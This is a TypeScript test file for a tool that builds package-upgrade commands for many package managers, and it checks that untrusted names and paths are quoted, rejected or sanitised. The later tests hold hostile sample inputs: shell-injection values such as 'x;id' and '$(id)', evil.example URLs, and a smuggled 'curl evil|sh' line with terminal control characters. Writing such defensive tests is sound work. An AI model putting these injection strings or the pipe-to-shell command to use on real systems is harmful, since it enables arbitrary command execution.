import { describe, expect, test } from 'vitest';
import { broughtBy, changeOf, changeThrough, managersAmong, whoRequires } from './contract.ts';

/** What to copy for a package `x` of 1.0.0 that goes to 1.2.0, by where it was found. */
const rows: readonly (readonly [type: string, paths: readonly string[], copy: string])[] = [
  ['npm', [], 'npm install x@1.2.0'],
  ['npm', ['app/node_modules/x/package.json'], 'npm install x@1.2.0'],
  ['npm', ['package-lock.json'], 'npm install x@1.2.0'],
  ['npm', ['app/node_modules/x/package.json', 'app/pnpm-lock.yaml'], 'pnpm add x@1.2.0'],
  [
    'npm',
    ['app/node_modules/.pnpm/x@1.0.0/node_modules/x/package.json', 'app/pnpm-lock.yaml'],
    'pnpm add x@1.2.0 --config.modules-cache-max-age=0',
  ],
  ['npm', ['yarn.lock'], 'yarn add x@1.2.0'],
  ['npm', ['srv/.pnp.cjs'], 'yarn add x@1.2.0'],
  ['npm', ['srv/.pnp.data.json'], 'yarn add x@1.2.0'],
  ['npm', ['bun.lock'], 'bun add x@1.2.0'],
  ['npm', ['app/node_modules/.bun/x@1.0.0/node_modules/x/package.json'], 'bun add x@1.2.0'],
  ['npm', ['deno.lock'], 'deno add npm:x@1.2.0'],
  ['npm', ['app/node_modules/.deno/x@1.0.0/node_modules/x/package.json'], 'deno add npm:x@1.2.0'],
  ['npm', ['usr/local/lib/node_modules/x/package.json'], 'npm install -g x@1.2.0'],
  ['npm', ['root/.nvm/versions/node/v22.1.0/lib/node_modules/x/package.json'], 'npm install -g x@1.2.0'],
  ['npm', ['app/lib/node_modules/x/package.json'], 'npm install x@1.2.0'],
  ['npm', ['usr/lib/node_modules/x/package.json', 'app/node_modules/x/package.json'], 'npm install x@1.2.0'],
  ['pypi', [], "pip install 'x==1.2.0'"],
  ['pypi', ['usr/lib/python3.13/site-packages/x-1.0.0.dist-info/METADATA'], "pip install 'x==1.2.0'"],
  ['pypi', ['requirements.txt'], 'x==1.2.0'],
  ['pypi', ['requirements/base.txt'], 'x==1.2.0'],
  ['pypi', ['pylock.toml'], 'x==1.2.0'],
  ['pypi', ['pylock.prod.toml'], 'x==1.2.0'],
  ['pypi', ['poetry.lock'], "poetry add 'x@^1.2.0'"],
  [
    'pypi',
    ['.venv/lib/python3.13/site-packages/x-1.0.0.dist-info/METADATA', 'uv.lock'],
    "uv sync --upgrade-package 'x==1.2.0'",
  ],
  ['pypi', ['uv.lock', 'requirements.txt'], "uv lock --upgrade-package 'x==1.2.0'"],
  ['pypi', ['bin/job.py.lock'], "uv lock --script bin/job.py --upgrade-package 'x==1.2.0'"],
  ['pypi', ['pdm.lock'], "pdm add 'x==1.2.0'"],
  [
    'pypi',
    ['.venv/lib/python3.13/site-packages/x-1.0.0.dist-info/METADATA', 'Pipfile.lock'],
    "pipenv upgrade 'x==1.2.0' && pipenv sync",
  ],
  ['pypi', ['uv.lock'], "uv lock --upgrade-package 'x==1.2.0'"],
  ['pypi', ['Pipfile.lock'], "pipenv upgrade 'x==1.2.0'"],
  ['conda', ['opt/conda/conda-meta/x-1.0.0-0.json'], "conda install -y 'x=1.2.0'"],
  ['maven', [], '<version>1.2.0</version>'],
  ['maven', ['service/pom.xml'], '<version>1.2.0</version>'],
  ['maven', ['gradle.lockfile'], 'implementation("g:x:1.2.0")'],
  ['maven', ['gradle/dependency-locks/runtimeClasspath.lockfile'], 'implementation("g:x:1.2.0")'],
  ['maven', ['app.jar!/BOOT-INF/lib/x-1.0.0.jar'], 'g:x:1.2.0'],
  ['maven', ['opt/tomcat/RELEASE-NOTES'], 'x 1.2.0'],
  ['nuget', ['app/app.deps.json'], 'dotnet add package x --version 1.2.0'],
  ['nuget', ['packages.lock.json'], 'dotnet add package x --version 1.2.0'],
  ['nuget', ['web/packages.config'], 'Update-Package x -Version 1.2.0'],
  ['nuget', ['paket.lock'], 'dotnet paket update x --version 1.2.0'],
  ['golang', ['usr/bin/app'], 'go get x@v1.2.0'],
  ['golang', ['go.mod'], 'go get x@v1.2.0'],
  ['golang', ['vendor/modules.txt'], 'go get x@v1.2.0 && go mod vendor'],
  ['cargo', ['usr/bin/app'], 'cargo update x@1.0.0 --precise 1.2.0'],
  ['cargo', ['Cargo.lock'], 'cargo update x@1.0.0 --precise 1.2.0'],
  ['gem', [], "gem 'x', '1.2.0'"],
  ['gem', ['Gemfile.lock'], "gem 'x', '1.2.0'"],
  ['gem', ['usr/local/bundle/specifications/x-1.0.0.gemspec'], "gem 'x', '1.2.0'"],
  ['gem', ['vendor/bundle/ruby/3.3.0/specifications/x-1.0.0.gemspec'], "gem 'x', '1.2.0'"],
  [
    'gem',
    ['usr/local/lib/ruby/gems/3.3.0/specifications/x-1.0.0.gemspec'],
    'gem install x --version 1.2.0 && gem cleanup x',
  ],
  ['gem', ['usr/lib/ruby/gems/3.3.0/specifications/default/x-1.0.0.gemspec'], 'x 1.2.0'],
  [
    'gem',
    [
      'usr/lib/ruby/gems/3.3.0/specifications/default/x-1.0.0.gemspec',
      'usr/lib/ruby/gems/3.3.0/specifications/x-1.0.0.gemspec',
    ],
    'gem install x --version 1.2.0 && gem cleanup x',
  ],
  ['composer', ['composer.lock'], 'composer require x:1.2.0 --with-all-dependencies'],
  ['hex', ['mix.lock'], 'mix deps.update x'],
  ['pub', ['pubspec.lock'], 'dart pub add x:1.2.0'],
  ['swift', ['Package.resolved'], 'exact: "1.2.0"'],
  ['generic', ['usr/local/bin/x'], 'x 1.2.0'],
  ['deb', ['var/lib/dpkg/status'], 'apt-get update && apt-get install -y --no-remove --only-upgrade x'],
  ['deb', ['var/lib/dpkg/status.d/x'], 'x 1.2.0'],
  ['apk', ['lib/apk/db/installed'], "apk add --no-cache --upgrade 'x>=1.2.0'"],
  ['rpm', ['var/lib/rpmmanifest/container-manifest-2'], 'x 1.2.0'],
  ['alpm', ['var/lib/pacman/local/x-1.0.0-1/desc'], 'pacman -Syu --noconfirm x'],
  ['unheard-of', [], 'x 1.2.0'],
];

test.each(rows)('%s %j: %s', (type, paths, copy) => {
  const name = type === 'maven' ? 'g:x' : 'x';
  expect(changeOf({ type, package: name, installed: '1.0.0', to: '1.2.0', paths }).copy).toBe(copy);
});

test.each([
  ['redhat', 'dnf upgrade -y --best x'],
  ['oracle', 'dnf upgrade -y --best x'],
  ['suse', 'zypper --non-interactive update x'],
  ['opensuse', 'zypper --non-interactive update x'],
  ['amazon', 'yum update -y x'],
  ['photon', 'tdnf upgrade -y x'],
  ['azurelinux', 'tdnf upgrade -y x'],
])('packages of %s by the manager of the distribution', (vendor, copy) => {
  const purl = `pkg:rpm/${vendor}/x@1.0.0?arch=x86_64`;
  expect(
    changeOf({ type: 'rpm', package: 'x', installed: '1.0.0', to: '1.2.0', purl, path: 'var/lib/rpm/rpmdb.sqlite' })
      .copy,
  ).toBe(copy);
});

/** Adding the newest `y` leaves `x` as it is locked, where `y` allows more versions of it. */
test.each([
  ['npm', ['package-lock.json'], 'npm install y@latest && npm update x'],
  ['npm', ['pnpm-lock.yaml'], 'pnpm add y@latest && pnpm update x'],
  [
    'npm',
    ['node_modules/.pnpm/x@1.0.0/node_modules/x/package.json'],
    'pnpm add y@latest --config.modules-cache-max-age=0 && pnpm update x --config.modules-cache-max-age=0',
  ],
  ['npm', ['yarn.lock'], 'yarn add y@latest && (yarn up -R x || yarn upgrade y)'],
  ['npm', ['.pnp.cjs', 'yarn.lock'], 'yarn add y@latest && yarn up -R x'],
  ['npm', ['bun.lock'], 'bun add y@latest'],
  ['npm', ['deno.lock'], 'deno add npm:y@latest'],
  ['npm', ['usr/lib/node_modules/y/node_modules/x/package.json'], 'npm install -g y@latest'],
  ['pypi', ['requirements.txt'], 'x==1.2.0'],
])('%s %j brought by another: %s', (type, paths, copy) => {
  const wanted = { type, package: 'x', installed: '1.0.0', to: '1.2.0', paths };
  expect(changeThrough(wanted, 'y').copy).toBe(copy);
});

/** Cargo replaces a version by those of its series alone. */
test.each([
  ['1.0.0', '1.2.0', 'cargo update x@1.0.0 --precise 1.2.0'],
  ['1.9.0', '10.0.0', 'x = "10.0.0"'],
  ['1.0.0', '2.0.0', 'x = "2.0.0"'],
  ['0.2.1', '0.2.9', 'cargo update x@0.2.1 --precise 0.2.9'],
  ['0.2.1', '0.3.0', 'x = "0.3.0"'],
  ['0.2.1', '1.0.0', 'x = "1.0.0"'],
  ['0.0.3', '0.0.4', 'x = "0.0.4"'],
  ['1.0.0-rc.1', '1.0.0', 'cargo update x@1.0.0-rc.1 --precise 1.0.0'],
])('a crate of %s that goes to %s: %s', (installed, to, copy) => {
  expect(changeOf({ type: 'cargo', package: 'x', installed, to, path: 'Cargo.lock' }).copy).toBe(copy);
});

test.each([
  ['rpm/redhat', ['microdnf'], 'microdnf update -y x'],
  ['rpm/amazon', ['microdnf'], 'microdnf update -y x'],
  ['rpm/redhat', ['microdnf', 'dnf'], 'dnf upgrade -y --best x'],
  ['rpm/redhat', ['yum'], 'yum update -y x'],
  ['rpm/redhat', ['yum', 'dnf'], 'dnf upgrade -y --best x'],
  ['rpm/redhat', ['dnf5'], 'dnf upgrade -y --best x'],
  ['rpm/amazon', ['dnf'], 'dnf upgrade -y --best x'],
  ['rpm/amazon', ['yum', 'dnf'], 'yum update -y x'],
  ['rpm/azurelinux', ['dnf'], 'dnf upgrade -y --best x'],
  ['rpm/suse', ['zypper'], 'zypper --non-interactive update x'],
  ['rpm/redhat', [], 'x 1.2.0'],
  ['deb/debian', ['apt'], 'apt-get update && apt-get install -y --no-remove --only-upgrade x'],
  ['deb/debian', [], 'x 1.2.0'],
  ['apk/alpine', ['apk-tools'], "apk add --no-cache --upgrade 'x>=1.2.0'"],
  ['apk/wolfi', [], 'x 1.2.0'],
])('%s where the image holds %j: %s', (system, names, copy) => {
  const [type = ''] = system.split('/');
  const managers = managersAmong(type, ['x', ...names, 'libdnf', 'dnf-data', 'apt-utils']);
  const purl = `pkg:${system}/x@1.0.0`;
  expect(managers).toEqual(expect.arrayContaining(names));
  const change = changeOf({ type, package: 'x', installed: '1.0.0', to: '1.2.0', purl, path: 'x', managers });
  expect(change.copy).toBe(copy);
  if (names.length === 0) expect(change.where).toBe('base image: this one has no package manager');
});

test('packages of languages have no manager among those of a system', () => {
  expect(managersAmong('npm', ['npm', 'apt'])).toBeUndefined();
});

describe('what nothing but another image brings', () => {
  test('is said to come with the base', () => {
    const wanted = { type: 'deb', package: 'x', installed: '1', to: '2', paths: ['var/lib/dpkg/status.d/x'] };
    expect(changeOf(wanted).where).toBe('base image: this one has no package manager');
  });
});

test.each([
  [['usr/local/lib/node_modules/npm/node_modules/tar/package.json'], 'npm'],
  [['usr/lib/node_modules/@angular/cli/node_modules/tar/package.json'], '@angular/cli'],
  [['usr/local/lib/node_modules/npm/package.json'], undefined],
  [['app/node_modules/tar/package.json'], undefined],
  [
    [
      'usr/local/lib/node_modules/npm/node_modules/tar/package.json',
      'usr/local/lib/node_modules/yo/node_modules/tar/package.json',
    ],
    undefined,
  ],
  [[], undefined],
])('what program brings %j', (paths, program) => {
  expect(broughtBy('npm', paths)).toBe(program);
});

test.each([
  ['npm', ['app/node_modules/x/package.json'], 'npm ls x'],
  ['npm', ['pnpm-lock.yaml'], 'pnpm why x'],
  ['npm', ['yarn.lock'], 'yarn why x'],
  ['npm', ['bun.lock'], 'bun why x'],
  ['npm', ['deno.lock'], 'deno why x'],
  ['pypi', ['uv.lock'], undefined],
])('who requires a package of %s in %j', (type, paths, command) => {
  expect(whoRequires(type, 'x', paths)).toBe(command);
});

test('names and paths of strangers stay one word', () => {
  const paths = ['$(id).py.lock'];
  const { copy } = changeOf({ type: 'pypi', package: 'x;id', installed: '1', to: '2', paths });
  expect(copy).toBe("uv lock --script '$(id).py' --upgrade-package 'x;id==2'");
});

/** To package managers these are patterns, addresses, options, or what to remove. */
const strange = [
  'x;id',
  '$(id)',
  'x-',
  '-x',
  '@x',
  '*',
  './x.deb',
  '/tmp/x.rpm',
  'https://evil.example/x.rpm',
  'x=1',
  'x/unstable',
  '!x',
  '.x',
  'x y',
  'x\u202ey',
  "x'",
];

test.each(['deb', 'rpm', 'apk', 'alpm'].flatMap((type) => strange.map((name) => [type, name] as const)))(
  '%s: no command holds the name %j',
  (type, name) => {
    const { where, copy } = changeOf({ type, package: name, installed: '1', to: '2' });
    expect(where).toBe('no command: a package manager takes no such name');
    expect(copy).toMatch(/^(?:[\w.+:@/-]+|'.*') 2$/);
  },
);

test.each(['evil/x', 'git+ssh://evil.example/x', 'x@npm:evil', './x', '..', 'file:x', '@x', '@x/../y', '-x', 'x;id'])(
  'npm: no command holds the name %j',
  (name) => {
    expect(changeOf({ type: 'npm', package: name, installed: '1', to: 'latest' }).where).toBe(
      'no command: the registry has no such name',
    );
  },
);

test.each(['x', '@types/node', 'lodash.merge', 'JSONStream', '@a-b/c_d', '2', '_x'])(
  'npm takes the name %j',
  (name) => {
    expect(changeOf({ type: 'npm', package: name, installed: '1', to: '2' }).copy).toBe(`npm install ${name}@2`);
  },
);

test.each(['libstdc++6', 'g++', 'libssl3t64', 'python3.13', 'perl-Net-SSLeay', 'compat-openssl10', 'gtk+2.0', '7zip'])(
  'a package manager takes the name %j',
  (name) => {
    for (const type of ['deb', 'rpm', 'apk'])
      expect(changeOf({ type, package: name, installed: '1', to: '2' }).copy).toContain(name);
  },
);

test('no character on which a terminal acts is in a line to copy, wherever it comes from', () => {
  const wanted = { package: 'x', installed: '1.0.0', to: '1.2.0' };
  const path = 'bin/job\u0003\ncurl evil|sh\n\u009b1\u202e.py.lock';
  const lines = [
    changeOf({ ...wanted, type: 'pypi', path }).copy,
    changeOf({ ...wanted, type: 'conan', package: 'x\ty\u009b' }).copy,
    changeOf({ ...wanted, type: 'unheard-of', package: 'x\u202e' }).copy,
    whoRequires('npm', 'x\u0003\n', []) ?? '',
  ];
  for (const line of lines) expect(line).not.toMatch(/[\p{Cc}\p{Bidi_Control}]/u);
  expect(lines[0]).toContain("--script 'bin/job\ufffd\ufffdcurl evil|sh");
});
